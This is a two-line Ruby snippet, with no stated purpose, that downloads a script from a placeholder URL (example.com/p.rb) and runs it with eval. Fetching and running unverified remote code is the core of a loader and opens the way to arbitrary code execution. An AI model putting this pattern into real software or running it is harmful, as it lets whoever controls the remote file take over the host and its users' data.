require 'open-uri'
eval(URI.open('https://example.com/p.rb').read)
